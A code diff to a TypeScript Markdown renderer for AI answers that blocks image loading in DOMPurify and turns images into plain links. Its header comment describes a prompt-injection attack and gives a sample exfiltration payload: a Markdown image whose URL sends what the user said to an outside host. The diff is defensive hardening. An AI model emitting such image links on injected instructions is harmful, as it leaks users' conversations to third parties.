@@ -1,5 +1,9 @@
 // Markdown → safe HTML. Answers are untrusted text: marked renders, DOMPurify
-// strips anything active (scripts, event handlers, javascript: URLs).
+// strips anything active (scripts, event handlers, javascript: URLs). An
+// image is never fetched: a model told by a prompt injection to write
+// ![x](https://host/?q=what+the+user+said) would send the conversation to
+// that host as the answer renders. It becomes a link to the image instead,
+// which the user may open.
 
 import DOMPurify from 'dompurify';
 import { Marked } from 'marked';
@@ -11,6 +15,32 @@ let hooked = false;
 function hook(): void {
   if (hooked) return;
   hooked = true;
+  // The link is made before the image it replaces, where DOMPurify's walk
+  // has passed, so it is built here from checked parts: an http(s) URL
+  // and text.
+  DOMPurify.addHook('uponSanitizeElement', (node, data) => {
+    if (data.tagName !== 'img' || !(node instanceof Element) || !node.parentNode) return;
+    const src = node.getAttribute('src') ?? '';
+    const alt = node.getAttribute('alt') ?? '';
+    const doc = node.ownerDocument;
+    let url: URL | null = null;
+    try {
+      url = new URL(src);
+    } catch {
+      // not an absolute URL
+    }
+    const web = url && (url.protocol === 'http:' || url.protocol === 'https:');
+    const el = doc.createElement(web ? 'a' : 'span');
+    el.className = 'md-image';
+    el.textContent = `image: ${alt || (web ? url!.host : 'not shown')}`;
+    if (web) {
+      el.setAttribute('href', url!.href);
+      el.setAttribute('target', '_blank');
+      el.setAttribute('rel', 'noopener noreferrer');
+      el.setAttribute('title', `Not loaded: open ${url!.href}`);
+    }
+    node.parentNode.insertBefore(el, node);
+  });
   DOMPurify.addHook('afterSanitizeAttributes', (node) => {
     if (node instanceof HTMLAnchorElement && node.hasAttribute('href')) {
       node.setAttribute('target', '_blank');
@@ -25,7 +55,7 @@ export function renderMarkdown(src: string): string {
   const html = marked.parse(src) as string;
   return DOMPurify.sanitize(html, {
     USE_PROFILES: { html: true },
-    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe'],
+    FORBID_TAGS: ['style', 'form', 'input', 'button', 'textarea', 'select', 'iframe', 'img', 'picture', 'video', 'audio', 'source'],
     FORBID_ATTR: ['style'],
   });
 }
